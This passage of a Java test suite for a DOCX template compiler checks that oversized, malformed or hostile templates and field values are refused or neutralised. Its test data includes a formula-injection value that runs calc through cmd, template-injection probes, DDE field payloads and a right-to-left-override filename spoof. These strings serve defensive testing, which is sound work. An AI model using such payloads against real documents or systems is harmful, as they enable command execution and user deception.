                Arguments.of("paragraphs of tags", many(p(tag), 30_000), ""),
                Arguments.of("a paragraph of too many tags", p(many(tag, 11_000)), "more than 10000 tags"),
                Arguments.of("tags without an end", p(r(many("{{a%d ", 200_000))), "is not closed"),
                Arguments.of("ends without a tag", p(r(many("}}a%d ", 200_000))), "closes a tag"),
                Arguments.of("braces", p(r("{".repeat(200_000) + noise(30_000))), "is not closed"),
                Arguments.of("marks of spelling", p(many("<w:proofErr w:a=\"%d\"/>", 150_000)), ""),
                Arguments.of("bad fields", p(many(field("DDE %d", "%<d"), 20_000)), "of the kind DDE"),
                Arguments.of(
                        "links in links",
                        p("<w:hyperlink r:id=\"rL\">".repeat(60) + r("x") + "</w:hyperlink>".repeat(60)),
                        "stands inside another link"),
                Arguments.of(
                        "sections side by side", many(lines("{{#x}}") + lines("%d") + lines("{{/x}}"), 20_000), ""));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("endless")
    @Timeout(120)
    void whatIsLongIsReadOrRefusedInTime(String name, String body, String sentence) {
        Docx docx = Docx.of(body, lines("Hi {{full_name}}")).link("rL", "{{some_url}}");
        if (sentence.isEmpty()) {
            assertAccepted(docx);
        } else {
            assertThat(refusal(docx)).contains(sentence);
        }
    }

    @Test
    @Timeout(120)
    void longAddressesAreRefused() {
        Docx docx = Docx.of(p(hyperlink("rL", "x")));

        assertThat(refusal(docx.link("rL", many("{{a%d ", 30_000))))
                .contains("an address of more than 10000 characters");
    }

    @Test
    void whatIsNotForeseenEndsAsASentence() {
        Path file = Path.of("somewhere", "cv.docx");

        assertThatThrownBy(
                        () -> TemplateCompiler.contained(file, () -> List.of().get(0)))
                .isInstanceOf(UserProblem.class)
                .hasMessageStartingWith("cv.docx cannot be understood");
        assertThatThrownBy(() -> TemplateCompiler.contained(file, () -> deeper(1)))
                .isInstanceOf(UserProblem.class)
                .hasMessageStartingWith("cv.docx is too much for this program")
                .hasCauseInstanceOf(StackOverflowError.class);
        assertThatThrownBy(() -> TemplateCompiler.contained(file, () -> new byte[Integer.MAX_VALUE]))
                .isInstanceOf(UserProblem.class)
                .hasCauseInstanceOf(OutOfMemoryError.class);
    }

    private static int deeper(int depth) {
        return deeper(depth + 1) + 1;
    }

    /** A text many times, each with its number. */
    private static String many(String text, int times) {
        StringBuilder many = new StringBuilder();
        for (int i = 0; i < times; i++) {
            many.append(text.formatted(i * 0x9E3779B1 >>> 1));
        }
        return many.toString();
    }

    private static String noise(int length) {
        Random random = new Random(9);
        StringBuilder noise = new StringBuilder();
        for (int i = 0; i < length; i++) {
            noise.append((char) ('a' + random.nextInt(26)));
        }
        return noise.toString();
    }

    // What values say (T13, T14)

    @ParameterizedTest
    @ValueSource(
            strings = {
                "{{title}}",
                "{{#work}}x{{/work}}",
                "{{{email}}}",
                "${title} #{title} <%= 7*7 %> [[title]]",
                "%7b%7btitle%7d%7d",
                "{{",
                "}}",
                "=cmd|'/c calc'!A1",
                "<w:t>x</w:t>&amp;]]>",
                "<!--",
                "&#x26;lt;",
                "'\"<>&"
            })
    void valuesAreLiteral(String value) throws IOException {
        CompiledTemplate template = compile(Docx.of(lines("{{some}}", "{{#list}}{{.}}{{/list}}", "a{{some}}b{{title}}"))
                .bytes());
        Rendered rendered = Rendered.of(
                template, Contents.fields("some", value, "list", Contents.items(value, value), "title", "T"));

        assertThat(rendered.paragraphs()).containsExactly(value, value + value, "a" + value + "bT");
    }

    static Stream<Arguments> characters() {
        return Stream.of(
                Arguments.of("a\u0000b\u0001c\u001Fd", "abcd"),
                Arguments.of("a\u000Bb\u000Cc", "abc"),
                Arguments.of("a\uFFFEb\uFFFFc", "abc"),
                Arguments.of("a\uD83Db", "ab"),
                Arguments.of("a\uDE00b", "ab"),
                Arguments.of("\uDE00\uD83D", ""),
                Arguments.of("\uD83D\uD83D\uDE00", "😀"),
                Arguments.of("a\u202Egnp.exe\u202C", "agnp.exe"),
                Arguments.of("a\u202Ab\u202Bc\u202Cd\u202De\u202Ef", "abcdef"),
                Arguments.of("a\u2066b\u2067c\u2068d\u2069e", "abcde"),
                Arguments.of("\u2027\u202F\u2065\u206A", "\u2027\u202F\u2065\u206A"),
                Arguments.of("שלום (Ada) مرحبا\u061C 12", "שלום (Ada) مرحبا\u061C 12"),
                Arguments.of("\u200Fשלום\u200E", "\u200Fשלום\u200E"),
                Arguments.of("👩‍👩‍👧 e\u0301 \u0130", "👩‍👩‍👧 e\u0301 \u0130"));
    }

    @ParameterizedTest
    @MethodSource("characters")
    void charactersThatXmlOrReadersCannotHaveAreRemoved(String value, String shown) throws IOException {
        CompiledTemplate template = compile(Docx.of(lines("[{{some}}]"))
                .core("<dc:title>[{{some}}]</dc:title>")
                .bytes());
        Rendered rendered = Rendered.of(template, Contents.fields("some", value));

        assertThat(rendered.text()).isEqualTo("[" + shown + "]");
        assertThat(Ooxml.parse(rendered.entries().get("docProps/core.xml"))
                        .getDocumentElement()
                        .getTextContent())
                .isEqualTo("[" + shown + "]");
    }

    // Files

    private static Docx hello() {
        return Docx.of(lines("Hi {{full_name}}"));
    }

    private static Docx media(byte[] content, int times) {
        Docx docx = hello();
        for (int i = 0; i < times; i++) {
            docx.entry("word/media/" + i + ".bmp", content);
        }
        return docx;
    }

    /** What packs to a fiftieth, so that it is not suspicious in itself. */
    private static byte[] mostlyEmpty(int size) {
        byte[] noise = new byte[size / 50];
        new Random(2).nextBytes(noise);
        return Arrays.copyOf(noise, size);
    }

    private static Docx crowd(int size) {
        Docx docx = hello();
        int own = Ooxml.of(docx.bytes()).entries().size();
        for (int i = own; i < size; i++) {
            docx.entry("word/media/" + i, new byte[] {1});
        }
        return docx;
    }

    private static Docx nestedTables(int depth) {
        Random random = new Random(8);
        StringBuilder nested = new StringBuilder();
        for (int i = 0; i < depth; i++) {
            nested.append("<w:tbl><w:tr w:rsidR=\"")
                    .append(Integer.toHexString(random.nextInt()))
                    .append("\"><w:tc>");
        }
        nested.append(lines("{{full_name}}"));
        return Docx.of(nested + ("<w:p/></w:tc></w:tr></w:tbl>").repeat(depth) + p());
    }

    private static void put(ZipArchiveOutputStream zip, String name, byte[] content) throws IOException {
        zip.putArchiveEntry(new ZipArchiveEntry(name));
        zip.write(content);
        zip.closeArchiveEntry();
    }

    private static byte[] utf8(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    private CompiledTemplate compile(byte[] template) throws IOException {
        return CompiledTemplate.compile(Files.write(folder.resolve("template.docx"), template));
    }

    private void assertAccepted(Docx docx) {
        assertThatCode(() -> Rendered.of(compile(docx.bytes()), Samples.plain()))
                .doesNotThrowAnyException();
    }

    private String refusal(Docx docx) {
        try {
            return refusal(docx.bytes());
        } catch (IOException impossible) {
            throw new java.io.UncheckedIOException(impossible);
        }
    }

    private String refusal(byte[] template) throws IOException {
        Path file = Files.write(folder.resolve("template.docx"), template);
        UserProblem problem = catchThrowableOfType(UserProblem.class, () -> CompiledTemplate.compile(file));
        assertThat(problem).as("a refusal").isNotNull();
        return problem.getMessage();
    }
}
